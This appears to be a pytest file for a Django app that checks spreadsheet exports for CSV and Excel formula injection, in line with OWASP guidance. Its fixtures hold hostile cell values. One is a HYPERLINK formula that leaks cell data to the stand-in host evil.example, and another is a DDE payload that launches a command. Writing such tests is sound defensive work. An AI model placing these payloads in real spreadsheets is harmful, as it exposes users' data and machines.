"""No export carries a formula: every .xlsx cell is text, number or date; CSV text is neutralised (OWASP)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from core.spreadsheets import OutColumn, csv_cell, write_csv, write_xlsx
from tests.factories import MassOrganizationFactory, MemberFactory, ProspectFactory

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
TRIGGERS = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def formula_cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.data_type != "s")
    ]


def csv_fields(content):
    return [field for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for field in line]


@pytest.fixture
def hostile_records(tree):
    tree.branch_a.name = HOSTILE
    tree.branch_a.save()
    tree.enterprise_a.name = "@cmd|' /C calc'!A0"
    tree.enterprise_a.save()
    MemberFactory(organization=tree.branch_a, enterprise=tree.enterprise_a, full_name=HOSTILE, party_card_number="+123")
    ProspectFactory(organization=tree.branch_a, full_name="-1+2")
    MassOrganizationFactory(enterprise=tree.enterprise_a, name="=1+2")
    return tree


def test_the_writers_keep_text_as_text_and_numbers_and_dates_typed():
    columns = [OutColumn("name"), OutColumn("count"), OutColumn("on"), OutColumn("code", text=True)]
    rows = [[text, -5, datetime.date(2024, 2, 29), "=007"] for text in TRIGGERS]
    sheet = load_workbook(io.BytesIO(write_xlsx(columns, rows))).active
    assert [cell.value for cell in sheet["A"][1:]] == [text.replace("\r", "\n") for text in TRIGGERS]  # XML
    assert all(cell.data_type == "s" for cell in sheet["A"][1:])
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].is_date and sheet["C2"].value == datetime.datetime(2024, 2, 29)
    assert sheet["D2"].value == "=007" and sheet["D2"].data_type == "s"
    fields = csv_fields(write_csv(columns, rows))
    for text in TRIGGERS:
        assert "'" + text in fields and text not in fields
    assert "-5" in fields and "29/02/2024" in fields  # dates as Vietnam writes them
    assert csv_cell(-5) == -5 and csv_cell("Lê Thị Mai") == "Lê Thị Mai"


@pytest.mark.parametrize("kind", ["members", "enterprises", "organizations", "mass_organizations", "prospects"])
def test_no_list_export_holds_a_formula(client, hostile_records, administrator, kind):
    client.force_login(administrator)
    xlsx = client.get(reverse("io:export"), {"kind": kind, "format": "xlsx"})
    assert xlsx.status_code == 200
    assert formula_cells(xlsx.content) == []
    fields = csv_fields(client.get(reverse("io:export"), {"kind": kind, "format": "csv"}).content)
    assert not [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_members_export_shows_the_hostile_name_as_text(client, hostile_records, administrator):
    client.force_login(administrator)
    content = client.get(reverse("io:export"), {"kind": "members", "format": "xlsx"}).content
    values = [cell.value for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    assert HOSTILE in values
    assert "'" + HOSTILE in csv_fields(client.get(reverse("io:export"), {"kind": "members", "format": "csv"}).content)


def test_the_fulfilment_export_holds_no_formula(client, hostile_records, department):
    client.force_login(department)
    xlsx = client.get(reverse("reports:fulfilment_export"), {"format": "xlsx", "year": 2024})
    assert xlsx.status_code == 200
    assert formula_cells(xlsx.content) == []
    assert HOSTILE in [cell.value for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for cell in row]
    fields = csv_fields(client.get(reverse("reports:fulfilment_export"), {"format": "csv", "year": 2024}).content)
    assert "'" + HOSTILE in fields and HOSTILE not in fields


@pytest.mark.parametrize("kind", ["members", "enterprises", "returns"])
def test_templates_hold_no_formula(client, secretary_a, kind):
    client.force_login(secretary_a)
    response = client.get(reverse("io:template"), {"kind": kind, "format": "xlsx"})
    assert formula_cells(response.content) == []
